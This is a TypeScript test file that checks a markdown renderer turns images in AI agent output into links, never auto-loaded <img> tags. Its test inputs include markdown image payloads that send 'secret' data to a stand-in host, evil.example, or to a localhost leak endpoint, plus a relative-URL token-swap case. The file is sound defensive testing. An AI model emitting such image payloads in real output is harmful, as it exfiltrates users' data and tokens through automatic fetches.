import { renderToStaticMarkup } from "react-dom/server";
import { describe, expect, it } from "vitest";
import { renderMarkdown } from "./renderMarkdown.tsx";

const html = (text: string) => renderToStaticMarkup(<>{renderMarkdown(text)}</>);

describe("[R8] images in agent markdown", () => {
  it("[R8] become links the person can open, never an <img> the browser fetches by itself", () => {
    const attacks = [
      "![tracking pixel](https://evil.example/pixel.png?data=secret)",
      "![](http://127.0.0.1:9999/leak?x=1)",
      "![x](//evil.example/p.png)",
      "![x](HTTPS://EVIL.EXAMPLE/p.png)",
      "[![badge](https://evil.example/b.svg)](https://example.com)",
      "![ref][pic]\n\n[pic]: https://evil.example/ref.png",
      "| a |\n| - |\n| ![t](https://evil.example/t.png) |",
      "- ![in a list](https://evil.example/l.png)",
    ];
    let through = 0;
    for (const text of attacks) {
      const out = html(text);
      if (out.includes("<img")) through++;
      expect(out, text).toMatch(/evil\.example|127\.0\.0\.1:9999/i);
    }
    expect({ attempts: attacks.length, through }).toEqual({ attempts: 8, through: 0 });
  });

  it("[R8] a relative image is a link too: fetched with the person's cookie, `/?token=…` swapped the page's token", () => {
    for (const text of ["![](/?token=someone-else)", "![x](push/key)", "![y](./diagram.png)"]) {
      const out = html(text);
      expect(out, text).not.toContain("<img");
      expect(out, text).toContain('class="md-remote-image"');
    }
  });

  it("[R8] the link names the image by its alt text, or by its address when it has none", () => {
    expect(html("![a chart](https://example.com/c.png)")).toContain(
      '<a href="https://example.com/c.png" title="https://example.com/c.png" target="_blank" rel="noopener noreferrer" referrerPolicy="no-referrer" class="md-remote-image">a chart</a>',
    );
    expect(html("![](https://example.com/c.png)")).toContain(">https://example.com/c.png</a>");
  });
});
